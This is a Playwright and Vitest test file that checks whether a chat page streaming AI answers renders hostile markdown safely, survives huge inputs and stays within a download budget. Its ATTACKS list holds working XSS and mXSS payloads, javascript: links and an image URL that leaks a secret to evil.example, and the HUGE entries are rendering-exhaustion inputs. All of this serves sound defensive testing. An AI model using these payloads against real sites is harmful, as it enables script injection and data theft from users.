import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { launchBrowser } from './browser.ts';
import { finish, type Scenario } from './scripted-server/scenario.ts';
import { ANSWERING_SCENARIOS } from './scripted-server/scenarios/answering.ts';
import { startScriptedServer, type ScriptedServer } from './scripted-server/scripted-server.ts';
import { lastAnswer, openWatched, type Watched } from './watched-page.ts';

const stack = new AsyncDisposableStack();
let browser: Browser;
let server: ScriptedServer;

beforeAll(async () => {
  browser = await launchBrowser();
  stack.defer(() => browser.close());
  server = stack.use(await startScriptedServer());
});
afterAll(() => stack.disposeAsync());

/** The page with an answer that has begun and has no text yet. */
async function openAnswering(): Promise<Watched> {
  const scenario = ANSWERING_SCENARIOS['answering'] as Scenario;
  server.play({ ...scenario, logs: { 'g-a-2': scenario.logs['g-a-2']?.slice(0, 2) ?? [] } });
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
  return openWatched(context, `${server.url}/c/c-1`);
}

const ATTACKS = [
  '<img src=x onerror="globalThis.broken=1">',
  '<svg onload="globalThis.broken=1"><image href="https://evil.example/a.png"></image></svg>',
  '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.broken=1></style></mglyph></table></mtext></math>',
  '<script>globalThis.broken=1</script><style>@import "https://evil.example/a.css"</style>',
  '<link rel="prefetch" href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '[a](javascript:globalThis.broken=1) [b](java\tscript:globalThis.broken=1) [c](vbscript:x) [d](data:text/html,<script>globalThis.broken=1</script>)',
  '<javascript:globalThis.broken=1> <https://evil.example/seen>',
  '![secret](https://evil.example/?q=SECRET) ![x](data:image/svg+xml,<svg/onload=globalThis.broken=1>)',
  '[e][e]\n\n[e]: javascript:globalThis.broken=1 "title"',
  '```html\n<img src=x onerror=globalThis.broken=1>\n```',
  '```"><img/src=x/onerror=globalThis.broken=1>\ncode\n```',
  '`<img src=x onerror=globalThis.broken=1>` | <b>x</b> |\n|--|\n',
  'file "\u202Egnp.exe" and [https://good.example](https://evil.example/login)',
] as const;

async function expectHarmless({ page, complaints }: Watched): Promise<void> {
  expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
  expect(complaints).toEqual([]);
  const elements = await lastAnswer(page)
    .locator('.prose')
    .evaluate((prose) => ({
      strange: [
        ...prose.querySelectorAll('img, svg:not(.ic), iframe, script, style, link, meta, math, object, embed, form, input, base'),
      ].map((found) => found.outerHTML),
      targets: [...prose.querySelectorAll('a')].map((link) => new URL(link.href).protocol),
      handlers: [...prose.querySelectorAll('*')].flatMap((element) =>
        element.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style' || name === 'srcdoc'),
      ),
    }));
  expect(elements.strange).toEqual([]);
  expect(elements.handlers).toEqual([]);
  for (const protocol of elements.targets) expect(['http:', 'https:', 'mailto:']).toContain(protocol);
}

describe('an answer that attacks the page', () => {
  it('letter by letter stays text: no script, no request, no strange element', async () => {
    const watched = await openAnswering();
    for (const letter of ATTACKS.join('\n\n')) server.log('g-a-2', { type: 'text', text: letter });
    await lastAnswer(watched.page)
      .getByText('evil.example/login')
      .or(lastAnswer(watched.page).getByText('(evil.example)').last())
      .first()
      .waitFor();
    await expectHarmless(watched);
    server.log('g-a-2', finish());
    await lastAnswer(watched.page).getByText('20 tokens/s').waitFor();
    await expectHarmless(watched);
    const text = await lastAnswer(watched.page).innerText();
    expect(text).toContain('<img src=x onerror="globalThis.broken=1">');
    expect(text).toContain('blocked link: javascript:globalThis.broken=1');
    expect(text).toContain('picture: secret, not loaded (evil.example)');
    expect(text).not.toContain('\u202E');
    await watched.page.context().close();
  });

  it('cut in two at every place stays text as well', async () => {
    const watched = await openAnswering();
    for (const attack of ATTACKS) {
      const places = [1, Math.floor(attack.length / 3), Math.floor(attack.length / 2), attack.length - 1];
      for (const place of places) {
        server.log('g-a-2', { type: 'text', text: attack.slice(0, place) }, { type: 'text', text: `${attack.slice(place)}\n\n` });
      }
    }
    server.log('g-a-2', finish());
    await lastAnswer(watched.page).getByText('20 tokens/s').waitFor();
    await expectHarmless(watched);
    await watched.page.context().close();
  });
});

const HUGE: Readonly<Record<string, string>> = {
  'a line of 2 MB': 'word '.repeat(400_000),
  'a table of 50,000 rows': `| a | b |\n|---|---|\n${'| one | two |\n'.repeat(50_000)}`,
  '5,000 nested quotes': `${'>'.repeat(5000)} deep\n`,
  '5,000 nested lists': `${'- '.repeat(5000)}deep\n`,
  'a fence that is never closed': `\`\`\`js\n${'const a = 1;\n'.repeat(50_000)}`,
  'brackets without end': '['.repeat(50_000),
  'stars without end': '**a'.repeat(30_000),
};

describe('an answer that is too much', () => {
  it.each(Object.keys(HUGE))('%s is shown as text, and the page stays usable', async (name) => {
    const { page, complaints } = await openAnswering();
    server.log('g-a-2', { type: 'text', text: HUGE[name] ?? '' }, finish());
    await lastAnswer(page).getByText('20 tokens/s').waitFor();
    const field = page.getByRole('textbox', { name: 'Message' });
    await field.pressSequentially('still typing');
    await expect.poll(() => field.inputValue()).toBe('still typing');
    expect(complaints).toEqual([]);
    await page.context().close();
  });
});

describe('what the first visit fetches', () => {
  it('stays within the budget of the page', async () => {
    server.play(ANSWERING_SCENARIOS['versions'] as Scenario);
    const context = await browser.newContext();
    const page: Page = await context.newPage();
    const fetched: string[] = [];
    page.on('request', (request) => fetched.push(new URL(request.url()).pathname));
    await page.goto(server.url);
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    await page.waitForLoadState('load');
    const sizeOf = async (ending: string): Promise<number> => {
      const files = fetched.filter((path) => path.endsWith(ending));
      expect(files.length).toBeGreaterThan(0);
      const sizes = await Promise.all(files.map((path) => compressedSize(`${server.url}${path}.gz`)));
      return sizes.reduce((sum, size) => sum + size, 0);
    };
    expect(await sizeOf('.js')).toBeLessThanOrEqual(170 * 1024);
    expect(await sizeOf('.css')).toBeLessThanOrEqual(30 * 1024);
    expect(fetched.length).toBeLessThanOrEqual(40);
    await context.close();
  });
});

async function compressedSize(url: string): Promise<number> {
  const response = await fetch(url);
  expect(response.headers.get('content-type')).toBe('application/octet-stream');
  return (await response.arrayBuffer()).byteLength;
}
